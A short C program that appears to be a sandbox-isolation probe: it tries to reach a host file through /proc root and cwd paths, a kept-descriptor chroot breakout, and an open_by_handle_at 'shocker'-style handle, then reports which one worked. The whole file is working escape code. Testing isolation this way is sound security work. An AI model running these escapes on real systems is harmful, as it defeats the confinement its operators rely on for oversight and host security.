/* Looks for the file argv[1] of the machine by every known way out of a root, and says which led to it. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void look(const char *way, const char *path)
{
	int fd = open(path, O_RDONLY);

	if (fd >= 0) {
		printf("FOUND by %s\n", way);
		close(fd);
	}
}

int main(int argc, char **argv)
{
	static const char *prefixes[] = {
		"", "/..", "/../../../../..", "/proc/1/root", "/proc/self/root/..", "/proc/1/cwd/../../../../..",
		"/proc/self/cwd/../../../..", "/proc/thread-self/root", "/dev/fd/3", "/proc/1/task/1/root/..",
	};
	char path[4096];
	struct { struct file_handle head; unsigned char bytes[8]; } handle = {
		/* The root folder of an ext file system: inode 2, any generation. */
		.head = { .handle_bytes = 8, .handle_type = 1 }, .bytes = { 2 },
	};
	int fd, i;

	for (i = 0; i < (int)(sizeof(prefixes) / sizeof(*prefixes)); i++) {
		snprintf(path, sizeof(path), "%s%s", prefixes[i], argv[1]);
		look(prefixes[i], path);
	}
	/* Whoever keeps a folder open above a new root can walk out of that (chroot(2), NOTES). */
	fd = open("/", O_RDONLY | O_DIRECTORY);
	mkdir("/cell", 0755);
	if (chroot("/cell") == 0) {
		fchdir(fd);
		for (i = 0; i < 64; i++)
			chdir("..");
		if (chroot(".") == 0)
			look("chroot", argv[1]);
		look("relative path", argv[1] + 1);
		puts("walked");
	}
	/* A file handle names an inode of the disk, whatever the root (the "shocker" of 2014). */
	fd = open("/", O_RDONLY | O_DIRECTORY);
	fd = open_by_handle_at(fd, &handle.head, O_RDONLY);
	printf("open_by_handle_at: %s\n", fd < 0 ? strerror(errno) : "FOUND");
	return argc != 2;
}
